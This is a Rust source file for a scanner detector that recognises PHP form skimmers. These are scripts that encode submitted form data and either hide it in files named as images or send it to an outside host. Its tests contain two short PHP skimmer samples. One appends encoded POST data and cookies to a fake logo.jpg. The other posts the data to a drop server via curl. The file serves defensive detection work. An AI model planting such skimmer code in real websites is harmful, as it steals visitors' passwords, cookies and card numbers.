//! Recognises pages that keep what visitors type into a form and hand it on.
//!
//! A shop sends a card to its bank, a blog stores a comment. Neither packs the whole form with the visitor's cookies into base64, and
//! neither keeps that in a file that says it is an image.
//!
//! - Sees: PHP that packs whole forms or passwords and card numbers from them, and appends them to a file named as an image, style or
//!   hidden file, or sends them to a foreign host or by mail; a proof where two of these ways are there, or one and cookies or card
//!   fields, else a sign.
//! - Misses: skimmers in JavaScript; names put together at run time.
//! - False alarms: debug logs of forms (not packed: quiet).
//! - Source: public analyses of Magento and WordPress skimmers; ATT&CK T1056.003, T1041.

use std::sync::LazyLock;

use model::{Category, Confidence, Maturity, Severity, Weight};
use regex::bytes::{RegexSet, RegexSetBuilder};

use super::{About, Detector, Match, Sample, Scope};
use crate::shell::text;

/// Bytes around the packing in which the rest stands.
const NEAR_BYTES: usize = 1 << 10;

pub(super) const DETECTOR: Detector = Detector {
    about: About {
        id: "form-skimmer",
        title: "Keeps what visitors type into forms",
        category: Category::CredentialTheft,
        weight: Weight::Proof,
        severity: Severity::Critical,
        confidence: Confidence::Medium,
        maturity: Maturity::Stable,
        techniques: &["T1056.003", "T1041"],
    },
    scope: Scope::Content { kinds: text::TEXT_KINDS, literals: &["base64_encode(", "bin2hex(", "str_rot13("] },
    inspect,
};

/// Patterns in the order of the names below.
static PARTS: LazyLock<RegexSet> = LazyLock::new(|| {
    let patterns = [
        r"(?:base64_encode|bin2hex|str_rot13)\(\s*(?:\w+\(\s*){0,3}\[?\s*\$_(?:POST|REQUEST)\s*[,)\]]|(?:base64_encode|bin2hex|str_rot13)\([^;\n]{0,120}\$_(?:POST|REQUEST)\s*(?:[,)\]]|\[\s*['\x22]\w*(?:pass|pwd|cc_|card|cvv|cvc))",
        r"(?i)(?:file_put_contents|fopen|error_log)\([^;\n]{0,160}\.(?:jpe?g|png|gif|ico|bmp|css|woff2?|svg)['\x22][^;\n]{0,80}(?:FILE_APPEND|['\x22]a[b+]?['\x22]|,\s*3\s*,)|(?:file_put_contents|fopen)\([^;\n]{0,120}/\.[\w.-]+['\x22][^;\n]{0,80}(?:FILE_APPEND|['\x22]a[b+]?['\x22])",
        r"curl_init\(\s*['\x22]https?://|CURLOPT_URL\s*,\s*['\x22]https?://|file_get_contents\(\s*['\x22]https?://|\bmail\(\s*['\x22][\w.+-]+@|fsockopen\(\s*['\x22]",
        r"\$_COOKIE\b|(?i)\$_(?:POST|REQUEST)[^;\n]{0,40}['\x22](?:cc_number|cc_num\w*|card_?number|cvv2?|cvc|cc_cid)['\x22]",
    ];
    let built = RegexSetBuilder::new(patterns).unicode(false).build();
    built.expect("the patterns are constants, and a test runs them")
});
const PACKS: usize = 0;
const KEEPS: usize = 1;
const SENDS: usize = 2;
const PRIVATE: usize = 3;

fn inspect(sample: &Sample<'_>) -> Vec<Match> {
    let mut looked_until = 0;
    for hit in sample.hits.iter().take(512) {
        if hit.offset < looked_until {
            continue;
        }
        let (start, line) = sample.line(hit.offset, NEAR_BYTES);
        looked_until = start + line.len();
        if memchr::memmem::find(line, b"$_").is_none() {
            continue;
        }
        let (_, near) = sample.around(hit.offset, NEAR_BYTES, NEAR_BYTES);
        let parts = PARTS.matches(near);
        let has = |part| parts.matched(part);
        if !has(PACKS) || text::is_quoted(sample, hit.offset) {
            continue;
        }
        let mut words = vec!["packs forms"];
        let ways = [(KEEPS, "keeps them in a file named as another kind"), (SENDS, "sends them away")];
        words.extend(ways.iter().filter(|(part, _)| has(*part)).map(|(_, words)| *words));
        if words.len() == 1 {
            continue;
        }
        if has(PRIVATE) {
            words.push("with cookies or cards");
        }
        let mut found = Match::new(words.join("; "), start);
        found.weight = Some(if words.len() > 2 { Weight::Proof } else { Weight::Sign });
        return vec![found];
    }
    Vec::new()
}

#[cfg(test)]
mod tests {
    use super::DETECTOR;
    use crate::detectors::testing::check;

    #[test]
    fn packing_and_handing_on_is_a_skimmer() {
        check(
            &DETECTOR,
            "x.php",
            b"<?php\nif (isset($_POST['password'])) {\n  $d = base64_encode(serialize(array($_POST, $_COOKIE)));\n  file_put_contents('/var/www/html/media/logo.jpg', $d . \"\\n\", FILE_APPEND);\n}\n",
            &["packs forms; keeps them in a file named as another kind; with cookies or cards"],
        );
        check(
            &DETECTOR,
            "x.php",
            b"<?php\n$d = base64_encode(json_encode($_POST));\n$c = curl_init('https://drop.lazaret-corpus.net/c');\ncurl_setopt($c, CURLOPT_POSTFIELDS, $d);\n",
            &["packs forms; sends them away"],
        );
    }

    #[test]
    fn shops_and_forms_are_silent() {
        for text in [
            "<?php\n$auth = base64_encode($user . ':' . $password);\n$c = curl_init('https://api.bank.com/pay');\ncurl_setopt($c, CURLOPT_POSTFIELDS, $_POST);\n",
            "<?php\nfile_put_contents('/tmp/debug.log', print_r($_POST, true), FILE_APPEND);\n",
            "<?php\n$token = base64_encode($_POST['name']);\nsetcookie('n', $token);\n",
        ] {
            check(&DETECTOR, "x.php", text.as_bytes(), &[]);
        }
    }
}
